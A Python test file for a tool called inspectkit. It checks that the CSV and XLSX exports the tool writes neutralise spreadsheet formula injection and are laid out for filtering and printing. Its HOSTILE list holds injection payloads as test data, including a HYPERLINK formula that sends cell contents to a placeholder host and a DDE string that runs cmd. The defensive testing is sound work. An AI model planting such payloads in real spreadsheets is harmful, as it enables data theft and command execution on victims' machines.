"""Every CSV and XLSX inspectkit writes holds no formula, however its input begins (OWASP
CSV injection), and its tables are laid out to be filtered and printed.

The references are the ones a review found written as live formulas to a sample.
"""

from __future__ import annotations

import csv
import json
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from tests.cli_run import installed_regime, run_main
from tests.sampling.sampling_helpers import write_cases

from inspectkit.safe_cells import FORMULA_STARTS

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A2,"Open case")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _formula_cells(path: Path) -> list[str]:
    book = load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _unsafe_csv_fields(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [
            field for row in csv.reader(handle) for field in row if field.startswith(FORMULA_STARTS)
        ]


@pytest.fixture
def hostile_cases(tmp_path: Path) -> Path:
    # every reference begins like a formula, so whatever is drawn is one
    rows = [{"case_reference": f"{HOSTILE[n % 4]}{n}"} for n in range(40)]
    return write_cases(tmp_path / "cases.csv", rows)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_sample_of_formula_like_references_holds_no_formula(
    capsys, tmp_path, hostile_cases, suffix
):
    target = tmp_path / f"sample{suffix}"
    status, _out, err = run_main(
        capsys,
        "sample",
        "--regime",
        "cra_2010",
        "--cases",
        str(hostile_cases),
        "--seed",
        "1",
        "--on",
        "2011-10-17",
        "-o",
        str(target),
    )
    assert status == 0, err
    if suffix == ".xlsx":
        assert _formula_cells(target) == []
        book = load_workbook(target)
        references = [c.value for c in book["Sample"]["A"][1:]]
        assert references and all(r.startswith("'") for r in references)  # text, whole
    else:
        assert _unsafe_csv_fields(target) == []
        with target.open(encoding="utf-8", newline="") as handle:
            references = [row[0] for row in csv.reader(handle)][1:]
        assert references and all(r.startswith("'") for r in references)


def _cra_workspace(tmp_path: Path, council: str, body: str) -> Path:
    from inspectkit.workspace.init import init_workspace

    directory = tmp_path / "ws"
    init_workspace(
        directory,
        installed_regime("cra_2010"),
        council,
        date(2011, 10, 17),
        body=body,
        team=["Lead inspector"],
    )
    return directory


def test_an_action_plan_of_formula_like_findings_holds_no_formula(capsys, tmp_path):
    body = "".join(
        '\n[[findings]]\narea = "safeguarded_and_protected"\n'
        f'type = "area_for_development"\ntext = {json.dumps(text)}\n'
        for text in HOSTILE[:4]
    )
    directory = _cra_workspace(tmp_path, "=Council", body)
    for name in ("plan.xlsx", "plan.csv"):
        status, _, err = run_main(capsys, "action-plan", str(directory), "-o", str(tmp_path / name))
        assert status == 0, err
    assert _formula_cells(tmp_path / "plan.xlsx") == []
    assert _unsafe_csv_fields(tmp_path / "plan.csv") == []


def test_every_table_sheet_filters_prints_and_offers_its_choices(capsys, tmp_path):
    target = tmp_path / "readiness.xlsx"
    status, _, err = run_main(
        capsys, "readiness", "--regime", "slac_2009", "--start", "2012-06-11", "-o", str(target)
    )
    assert status == 0, err
    sheet = load_workbook(target).worksheets[0]
    header = [c.value for c in sheet[1]]
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(header)).column_letter}{sheet.max_row}"
    assert sheet.freeze_panes == "A2"
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.fitToWidth == 1 and sheet.sheet_properties.pageSetUpPr.fitToPage
    status_letter = sheet.cell(1, header.index("Status") + 1).column_letter
    [validation] = sheet.data_validations.dataValidation
    assert validation.formula1 == '"not started,in progress,ready"'
    assert str(validation.sqref) == f"{status_letter}2:{status_letter}{sheet.max_row}"


def test_the_action_plan_leaves_room_to_write_actions(capsys, tmp_path):
    directory = _cra_workspace(
        tmp_path,
        "Northwold Borough Council",
        '\n[[findings]]\narea = "safeguarded_and_protected"\n'
        'type = "area_for_development"\ntext = "Assessments vary in quality."\n',
    )
    status, _, err = run_main(
        capsys, "action-plan", str(directory), "-o", str(tmp_path / "plan.xlsx")
    )
    assert status == 0, err
    sheet = load_workbook(tmp_path / "plan.xlsx")["Action plan"]
    header = [c.value for c in sheet[1]]
    width = sheet.column_dimensions[sheet.cell(1, header.index("Actions") + 1).column_letter].width
    assert width >= 50
    [validation] = sheet.data_validations.dataValidation
    assert "amber" in validation.formula1


def test_csv_and_xlsx_values_keep_dates_and_numbers_as_they_are():
    from inspectkit.safe_cells import csv_value, xlsx_value

    assert csv_value(date(2011, 10, 17)) == "2011-10-17"
    assert csv_value(-3) == "-3"  # a number the writer made is not text from a file
    assert xlsx_value(-3) == -3
    assert xlsx_value("-3") == "'-3"
